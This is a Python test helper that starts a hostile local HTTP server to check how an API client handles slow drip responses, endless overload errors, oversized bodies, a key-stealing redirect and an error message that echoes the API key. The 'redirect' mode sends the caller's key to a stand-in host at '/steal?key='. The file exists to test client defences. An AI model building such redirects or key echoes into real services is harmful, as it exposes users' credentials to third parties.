"""A hostile HTTP server on 127.0.0.1: what a broken proxy, an overloaded provider or a
malicious endpoint can do to a connector.

Each mode answers every request the same way:

- "drip_body": headers at once, then a body of 10,000 declared bytes, one byte a second;
- "drip_headers": the status line and headers, one byte a second;
- "503" / "529": that status, for ever (529 is Anthropic's "overloaded"), Retry-After 0;
- "big": 200 with a 50 MB body and no Content-Length (so only a streaming cap stops it);
- "redirect": 302 to another host, the key in the query string it asks for;
- "echo": 400 whose message repeats parts of the key it was sent (prefix, middle, suffix).

Use:  with HostileServer("drip_body") as server: ... server.url ...
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType

MODES = ("drip_body", "drip_headers", "503", "529", "big", "redirect", "echo")
BIG_BYTES = 50 * 1024 * 1024


class HostileServer:
    def __init__(self, mode: str) -> None:
        if mode not in MODES:
            raise ValueError(f"mode must be one of {MODES}")
        self.mode = mode
        self.requests = 0
        self._server: ThreadingHTTPServer | None = None
        self._stop = threading.Event()

    @property
    def url(self) -> str:
        assert self._server
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> "HostileServer":
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def log_message(self, *args: object) -> None:
                return

            def do_GET(self) -> None:  # noqa: N802
                server.requests += 1
                try:
                    server._answer(self)
                except (BrokenPipeError, ConnectionResetError, OSError):
                    pass  # the client gave up, as it should

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None) -> None:
        self._stop.set()
        if self._server:
            self._server.shutdown()
            self._server.server_close()

    def _drip(self, h: BaseHTTPRequestHandler, data: bytes) -> None:
        for i in range(len(data)):
            if self._stop.wait(1.0):
                return
            h.wfile.write(data[i:i + 1])
            h.wfile.flush()

    def _json(self, h: BaseHTTPRequestHandler, status: int, body: object, headers: dict[str, str] | None = None) -> None:
        raw = json.dumps(body).encode()
        h.send_response(status)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(len(raw)))
        for k, v in (headers or {}).items():
            h.send_header(k, v)
        h.end_headers()
        h.wfile.write(raw)

    def _key(self, h: BaseHTTPRequestHandler) -> str:
        auth = h.headers.get("Authorization") or h.headers.get("x-api-key") or ""
        return auth.split()[-1] if auth.strip() else ""

    def _answer(self, h: BaseHTTPRequestHandler) -> None:
        mode = self.mode
        if mode == "drip_body":
            h.send_response(200)
            h.send_header("Content-Type", "application/json")
            h.send_header("Content-Length", "10000")
            h.end_headers()
            h.wfile.flush()
            self._drip(h, b'{"data": [' + b" " * 9988 + b"]}")
        elif mode == "drip_headers":
            self._drip(h, b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\nX-Padding: " + b"x" * 200 + b"\r\n\r\n{}")
        elif mode in ("503", "529"):
            body = {"type": "error", "error": {"type": "overloaded_error" if mode == "529" else "api_error",
                                               "message": "Overloaded" if mode == "529" else "Service Unavailable"}}
            self._json(h, int(mode), body, {"Retry-After": "0"})
        elif mode == "big":
            h.send_response(200)
            h.send_header("Content-Type", "application/json")
            h.end_headers()
            chunk = b" " * (1 << 20)
            for _ in range(BIG_BYTES // len(chunk)):
                if self._stop.is_set():
                    return
                h.wfile.write(chunk)
        elif mode == "redirect":
            h.send_response(302)
            h.send_header("Location", f"http://203.0.113.9/steal?key={self._key(h)}")
            h.send_header("Content-Length", "0")
            h.end_headers()
        elif mode == "echo":
            key = self._key(h)
            message = (f"Incorrect API key provided: {key[:12]}****{key[-6:]}; "
                       f"fragment {key[8:20]}; whole {key}")
            self._json(h, 400, {"error": {"type": "invalid_request_error", "message": message}})
